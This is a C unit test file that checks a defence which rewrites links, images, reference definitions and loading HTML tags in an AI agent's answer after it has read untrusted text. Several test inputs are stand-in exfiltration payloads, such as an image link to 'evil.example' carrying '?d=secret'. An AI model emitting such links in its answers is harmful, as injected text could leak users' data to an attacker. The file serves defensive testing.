/* SPDX-License-Identifier: Apache-2.0 */
/* Links and images of an answer, after texts of strangers were read. */
#include "base/base.h"
#include "agent/agent_int.h"

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>
#include <string.h>

static void assert_becomes(const char *text, const char *expected)
{
	struct buf b = BUF_INIT;
	bool changed = answer_links_defuse(text, "Read https://mine.example/a and sum it up", &b);
	assert_string_equal(buf_cstr(&b), expected);
	assert_int_equal(changed, strcmp(text, expected) != 0);
	buf_release(&b);
}

static void links__show_where_they_lead(void **state)
{
	(void)state;
	assert_becomes("![pixel](https://evil.example/?d=secret)",
		       "pixel (image: `https://evil.example/?d=secret`)");
	assert_becomes("see [here](https://evil.example/x \"title\").",
		       "see here (`https://evil.example/x`).");
	assert_becomes("[a [b] c](<http://x/a b>)", "a [b] c (`http://x/a`)");
	assert_becomes("![](//x/y(z))", " (image: `//x/y(z)`)");
	assert_becomes("[`](http://x/`y`)", "` (`http://x/y`)");
	assert_becomes("[two](http://x/1) [three](http://x/2)", "two (`http://x/1`) three (`http://x/2`)");
}

static void links__of_the_prompt_and_within_the_answer_stay(void **state)
{
	(void)state;
	assert_becomes("[mine](https://mine.example/a) and [above](#top) [s1], array[0](x",
		       "[mine](https://mine.example/a) and [above](#top) [s1], array[0](x");
	assert_becomes("no links: a < b, x ! [y], <https://mine.example/a>",
		       "no links: a < b, x ! [y], <https://mine.example/a>");
	assert_becomes("[mine](https://mine.example/a?q=1)", "mine (`https://mine.example/a?q=1`)");
}

static void links__by_reference_lead_nowhere(void **state)
{
	(void)state;
	assert_becomes("![p][1]\n\n[1]: https://evil.example/s", "[p][1]\n\n\\[1]: https://evil.example/s");
	assert_becomes("  [1]: https://evil.example/s", "  \\[1]: https://evil.example/s");
}

static void links__within_links(void **state)
{
	(void)state;
	assert_becomes("[![a](http://x/1)](http://x/2)", "a (image: `http://x/1`) (`http://x/2`)");
	assert_becomes("[![a](http://x/1)](https://mine.example/a)",
		       "[a (image: `http://x/1`)](https://mine.example/a)");
}

/* However long or nested: nothing is made of it, and the work stays linear. */
static void links__beyond_measure_are_none(void **state)
{
	struct buf text = BUF_LIMIT(64 << 20), out = BUF_LIMIT(64 << 20);
	(void)state;
	assert_becomes("[a[b[c[d[e]]]]](http://x)", "\\[a[b[c[d[e]]]]](http://x)");
	buf_add_str(&text, "![");
	for (int i = 0; i < 2000; i++)
		buf_add_char(&text, 'x');
	buf_add_str(&text, "](http://x/y)");
	assert_true(answer_links_defuse(buf_cstr(&text), "", &out));
	assert_int_equal(strncmp(buf_cstr(&out), "\\[xxx", 5), 0);
	buf_reset(&text);
	buf_reset(&out);
	for (int i = 0; i < 4 << 20; i++)
		buf_add_char(&text, i % 3 == 0 ? '(' : '[');
	int64_t start_ms = clock_mono_ms();
	(void)answer_links_defuse(buf_cstr(&text), "", &out);
	assert_true(clock_mono_ms() - start_ms < 5000);
	buf_release(&text);
	buf_release(&out);
}

static void tags__that_load_are_text(void **state)
{
	(void)state;
	assert_becomes("<IMG src=x><a href=y>z</a> <abbr>k</abbr> vector<int> <a-b>",
		       "&lt;IMG src=x>&lt;a href=y>z</a> <abbr>k</abbr> vector<int> <a-b>");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(links__show_where_they_lead),
		cmocka_unit_test(links__of_the_prompt_and_within_the_answer_stay),
		cmocka_unit_test(links__by_reference_lead_nowhere),
		cmocka_unit_test(links__within_links),
		cmocka_unit_test(links__beyond_measure_are_none),
		cmocka_unit_test(tags__that_load_are_text),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
